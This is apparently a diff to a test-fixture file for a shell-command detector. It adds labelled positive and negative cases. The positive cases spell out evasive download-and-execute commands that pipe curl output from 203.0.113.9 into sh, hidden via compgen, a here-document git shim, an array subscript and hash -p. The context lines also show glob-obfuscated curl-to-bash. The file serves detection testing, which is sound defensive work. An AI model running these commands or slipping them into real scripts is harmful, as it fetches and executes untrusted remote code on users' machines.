@@ -216,3 +216,21 @@ curl -fsSL -o "$OUT/data.json" https://api.example.com/data
 /usr/???/c?r[l] -fsSL https://h/i | /???/[b]ash
 #@ pos a shell named by a glob in a for loop
 for s in /???/?as?; do "$s" -c "$(curl -fsSL https://h/i)"; done
+#@ pos a completion generator that downloads and runs code
+compgen -C 'curl -s http://203.0.113.9/c | sh;:' -- st
+#@ pos a shell script written from a here-document, with a download run in it
+cat > "$d/git" <<'SHIM'
+#!/bin/sh
+curl -s http://203.0.113.9/s | sh
+exec /usr/bin/git "$@"
+SHIM
+#@ neg a shell script written from a here-document that only builds
+cat > build.sh <<'SCRIPT'
+#!/bin/sh
+make -j4 all
+SCRIPT
+#@ pos an array subscript with a download run in it, built by printf
+n=$(printf 'a[$(%s)]' 'curl -s http://203.0.113.9/x | sh'); (( n > 0 ))
+#@ pos hash -p binds a name to a shell looked up on PATH
+hash -p "$(command -v bash)" git
+git -c "$(curl -s http://203.0.113.9/g)" status
